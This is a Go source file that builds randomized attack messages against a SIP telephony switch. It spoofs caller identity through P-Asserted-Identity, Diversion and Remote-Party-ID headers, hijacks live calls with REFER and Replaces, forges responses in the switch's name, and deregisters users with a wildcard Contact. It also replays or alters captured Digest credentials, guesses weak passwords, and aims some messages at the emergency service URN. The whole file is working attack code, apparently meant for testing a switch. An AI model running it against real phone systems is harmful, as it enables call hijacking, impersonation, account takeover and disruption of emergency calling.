package campaign

import (
	"crypto/md5" //nolint:gosec // as RFC 2617 has it
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"regexp"
	"strings"
)

// SIP makes an attempt by SIP: a method, addressed and signed in some way, inside a call or
// outside, with what else may mislead.
func SIP(r *rand.Rand, k Knowledge) Attempt {
	m := sipMessage{r: r, k: k, id: fmt.Sprintf("%x", r.Uint64())}
	a := Attempt{Transport: pick(r, []string{"udp", "udp", "tcp", "tls"}), Spoof: r.IntN(4) == 0}
	if a.Spoof {
		a.Transport = "udp"
	}
	m.transport = strings.ToUpper(a.Transport)
	shapes := []func(){m.invite, m.invite, m.invite, m.invite, m.within, m.within, m.refer, m.replaces, m.forgedAnswer, m.register, m.others}
	shapes[r.IntN(len(shapes))]()
	m.mislead()
	m.body()
	if m.start[:4] != "SIP/" && r.IntN(2) == 0 {
		m.sign(&a)
	}
	a.First, a.What = m.text(), m.start
	return a
}

// sipMessage is a message that is being made.
type sipMessage struct {
	r         *rand.Rand
	k         Knowledge
	id        string
	transport string

	start             string
	method, uri       string
	from, to, callID  string
	cseq              int
	via, contact, sdp string
	lines             []string
}

func (m *sipMessage) number() string {
	if m.r.IntN(6) == 0 {
		return pick(m.r, m.k.Inside)
	}
	return pick(m.r, m.k.Outside)
}

func (m *sipMessage) home() string { return pick(m.r, append(m.k.Homes, m.k.Switch)) }

// request fills in what every request has.
func (m *sipMessage) request(method, uri string) {
	m.method, m.uri = method, uri
	m.start = method + " " + uri + " SIP/2.0"
	user := pick(m.r, append(m.k.Users, m.k.Inside...))
	m.from = fmt.Sprintf("<sip:%s@%s>;tag=%x", user, m.home(), m.r.Uint32())
	m.to = "<" + uri + ">"
	m.callID = m.id + "@attempt"
	m.cseq = 1 + m.r.IntN(3)
	m.via = fmt.Sprintf("SIP/2.0/%s %s;branch=z9hG4bK%s", m.transport, m.home(), m.id)
	if m.r.IntN(3) > 0 {
		m.via += ";rport"
	}
	if m.r.IntN(6) == 0 {
		m.via += ";received=" + strings.Split(m.home(), ":")[0]
	}
	m.contact = "<sip:" + user + "@" + m.home() + ">"
}

func (m *sipMessage) target() string {
	number := m.number()
	return pick(m.r, []string{
		"sip:" + number + "@" + m.k.Switch, "sip:" + number + "@" + m.home(), "tel:" + strings.TrimPrefix(number, "9"),
		"sips:" + number + "@" + m.k.Switch, "sip:" + number + ";phone-context=+44@" + m.k.Switch + ";user=phone", "sip:" + number + "@" + m.k.Switch + ";transport=tcp;lr",
		"urn:service:sos",
	})
}

func (m *sipMessage) invite() { m.request("INVITE", m.target()) }

// inDialog puts a request into a call that runs.
func (m *sipMessage) inDialog(method string) {
	d := pick(m.r, m.k.Dialogs)
	m.request(method, "sip:"+m.k.Switch)
	m.callID = d.CallID
	m.from = fmt.Sprintf("<%s>;tag=%s", d.FarURI, d.FarTag)
	m.to = fmt.Sprintf("<sip:%s@%s>;tag=%s", m.number(), m.k.Switch, d.SwitchTag)
	m.cseq = 100 + m.r.IntN(1000)
}

func (m *sipMessage) within() {
	m.inDialog(pick(m.r, []string{"INVITE", "UPDATE", "INFO", "BYE", "ACK", "PRACK", "CANCEL", "NOTIFY", "SUBSCRIBE"}))
}

func (m *sipMessage) refer() {
	if m.r.IntN(3) == 0 {
		m.request("REFER", m.target())
	} else {
		m.inDialog("REFER")
	}
	to := m.target()
	if d := pick(m.r, m.k.Dialogs); m.r.IntN(3) == 0 {
		to += "?Replaces=" + d.CallID + "%3Bto-tag%3D" + d.SwitchTag + "%3Bfrom-tag%3D" + d.FarTag
	}
	m.lines = append(m.lines, "Refer-To: <"+to+">")
}

// replaces is an INVITE that wants the place of a side of a call.
func (m *sipMessage) replaces() {
	m.invite()
	d := pick(m.r, m.k.Dialogs)
	m.lines = append(m.lines, fmt.Sprintf("Replaces: %s;to-tag=%s;from-tag=%s", d.CallID, d.SwitchTag, d.FarTag))
	if m.r.IntN(2) == 0 {
		m.lines = append(m.lines, "Require: replaces")
	}
}

// forgedAnswer answers a request of the switch in the place of its far end, and sends it on.
func (m *sipMessage) forgedAnswer() {
	d := pick(m.r, m.k.Dialogs)
	m.request("INVITE", m.target())
	m.start = "SIP/2.0 " + pick(m.r, []string{"302 Moved Temporarily", "300 Multiple Choices", "200 OK", "401 Unauthorized", "183 Session Progress", "503 Service Unavailable"})
	m.callID = d.CallID
	m.via = fmt.Sprintf("SIP/2.0/%s %s;branch=%s", m.transport, m.k.Switch, pick(m.r, append(m.k.Branches, "z9hG4bK"+m.id)))
	m.from = fmt.Sprintf("<sip:%s>;tag=%s", m.k.Switch, d.SwitchTag)
	m.to = fmt.Sprintf("<%s>;tag=%s", d.FarURI, d.FarTag)
	m.contact = "<" + m.target() + ">"
}

func (m *sipMessage) register() {
	m.request("REGISTER", "sip:"+m.k.Switch)
	m.to = "<sip:" + pick(m.r, m.k.Users) + "@" + m.k.Switch + ">"
	if m.r.IntN(5) == 0 {
		m.contact = "*"
		m.lines = append(m.lines, "Expires: 0")
	}
}

func (m *sipMessage) others() {
	m.request(pick(m.r, []string{"OPTIONS", "MESSAGE", "SUBSCRIBE", "NOTIFY", "PUBLISH", "INFO", "BYE", "CANCEL", "ACK", "UPDATE", "PRACK", "invite", "FOO"}), m.target())
	m.lines = append(m.lines, pick(m.r, []string{"Event: dialog", "Event: refer", "Event: message-summary", "Subscription-State: active"}))
}

// mislead adds what some switches believe.
func (m *sipMessage) mislead() {
	number := m.number()
	tricks := []string{
		"Route: <sip:" + m.k.Switch + ";lr>", "Route: <sip:" + m.home() + ";lr>", "Record-Route: <sip:" + m.home() + ";lr>",
		"P-Asserted-Identity: <sip:" + pick(m.r, m.k.Inside) + "@" + m.home() + ">", "P-Preferred-Identity: <tel:" + number + ">", "Remote-Party-ID: <sip:" + pick(m.r, m.k.Inside) + "@" + m.home() + ">",
		"Diversion: <sip:" + pick(m.r, m.k.Inside) + "@" + m.home() + ">;reason=unconditional", "History-Info: <sip:" + number + "@" + m.k.Switch + ">;index=1",
		"Referred-By: <sip:" + pick(m.r, m.k.Users) + "@" + m.home() + ">", "Via: SIP/2.0/UDP " + m.home() + ";branch=z9hG4bKdeeper" + m.id, "X-Forwarded-For: " + m.home(),
		"Proxy-Authorization: Digest username=\"" + pick(m.r, m.k.Users) + "\"", "From: <sip:" + pick(m.r, m.k.Users) + "@" + m.home() + ">;tag=second", "f: <sip:" + pick(m.r, m.k.Inside) + "@" + m.home() + ">;tag=compact",
		"Session-ID: 00000000000000000000000000000000;remote=00000000000000000000000000000000", "Supported: replaces, 100rel, timer", "Target-Dialog: " + pick(m.r, m.k.Dialogs).CallID, "Max-Forwards: 0", "Priority: emergency", "Privacy: id",
	}
	for range m.r.IntN(4) {
		m.lines = append(m.lines, pick(m.r, tricks))
	}
}

func (m *sipMessage) body() {
	if m.r.IntN(4) == 0 {
		return
	}
	m.sdp = "v=0\no=- 1 1 IN IP4 127.1.99.9\ns=-\nc=IN IP4 127.1.99.9\nt=0 0\nm=audio 40000 RTP/AVP 8\n"
	m.lines = append(m.lines, pick(m.r, []string{"Content-Type: application/sdp", "Content-Type: application/sdp", "c: APPLICATION/SDP", "Content-Type: multipart/mixed;boundary=x", "Content-Type: application/isup"}))
}

var (
	responseIn = regexp.MustCompile(`response="[^"]*"`)
	nonceIn    = regexp.MustCompile(`nonce="[^"]*"`)
	uriIn      = regexp.MustCompile(`uri="[^"]*"`)
	qopIn      = regexp.MustCompile(`, ?(qop=[^,]*|nc=[^,]*|cnonce="[^"]*")`)
	countIn    = regexp.MustCompile(`nc=[0-9a-f]*`)
)

// sign adds a credential: one that was heard, whole or changed, or a guess.
func (m *sipMessage) sign(a *Attempt) {
	switch heard := pick(m.r, m.k.Heard); {
	case heard != "" && m.r.IntN(2) == 0:
		change := []func(string) string{
			func(h string) string { return h },
			func(h string) string { return countIn.ReplaceAllString(h, fmt.Sprintf("nc=%08x", 2+m.r.IntN(50))) },
			func(h string) string { return qopIn.ReplaceAllString(h, "") },
			func(h string) string { return uriIn.ReplaceAllString(h, `uri="`+m.uri+`"`) },
			func(h string) string { return responseIn.ReplaceAllString(h, `response=""`) },
			func(h string) string { return strings.Replace(h, "algorithm=SHA-256", "algorithm=MD5", 1) },
			func(h string) string { return h + "\n" + h },
		}
		m.lines = append(m.lines, pick(m.r, change)(heard))
		a.Then = func(nonce string) string { // the heard answer under a fresh nonce
			m.lines[len(m.lines)-1] = nonceIn.ReplaceAllString(heard, `nonce="`+nonce+`"`)
			m.cseq++
			m.id += "b"
			return m.text()
		}
	default:
		a.Then = func(nonce string) string {
			m.lines = append(m.lines, m.guess(nonce))
			m.cseq++
			m.via = strings.Replace(m.via, "z9hG4bK", "z9hG4bKn", 1)
			return m.text()
		}
		if m.r.IntN(3) == 0 {
			m.lines = append(m.lines, m.guess(hex.EncodeToString([]byte(m.id))))
		}
	}
}

// guess answers a nonce with a secret that somebody might have chosen.
func (m *sipMessage) guess(nonce string) string {
	user := pick(m.r, m.k.Users)
	secret := pick(m.r, []string{"", user, "secret", "password", "1234", "admin", m.k.Realm})
	qop := m.r.IntN(2) == 0
	ha1 := sum(m.r, user, m.k.Realm, secret)
	ha2 := sum(m.r, m.method, m.uri)
	response := sum(m.r, ha1, nonce, ha2)
	line := fmt.Sprintf(`Authorization: Digest username="%s", realm="%s", nonce="%s", uri="%s"`, user, m.k.Realm, nonce, m.uri)
	if qop {
		response = sum(m.r, ha1, nonce, "00000001", "c", "auth", ha2)
		line += `, qop=auth, nc=00000001, cnonce="c"`
	}
	return line + `, response="` + pick(m.r, []string{response, "", "0", strings.Repeat("0", 32), strings.Repeat("0", 64)}) + `"` + pick(m.r, []string{"", ", algorithm=MD5", ", algorithm=SHA-256", ", algorithm=MD5-sess", ", algorithm=none"})
}

func sum(r *rand.Rand, parts ...string) string {
	text := []byte(strings.Join(parts, ":"))
	if r.IntN(2) == 0 {
		s := md5.Sum(text) //nolint:gosec // see above
		return hex.EncodeToString(s[:])
	}
	s := sha256.Sum256(text)
	return hex.EncodeToString(s[:])
}

func (m *sipMessage) text() string {
	lines := []string{m.start, "Via: " + m.via, "From: " + m.from, "To: " + m.to, "Call-ID: " + m.callID, fmt.Sprintf("CSeq: %d %s", m.cseq, m.method)}
	if !strings.Contains(strings.Join(m.lines, "\n"), "Max-Forwards") {
		lines = append(lines, "Max-Forwards: 70")
	}
	lines = append(lines, "Contact: "+m.contact)
	lines = append(lines, m.lines...)
	body := strings.ReplaceAll(m.sdp, "\n", "\r\n")
	lines = append(lines, fmt.Sprintf("Content-Length: %d", len(body)), "", "")
	return strings.Join(lines, "\r\n") + body
}
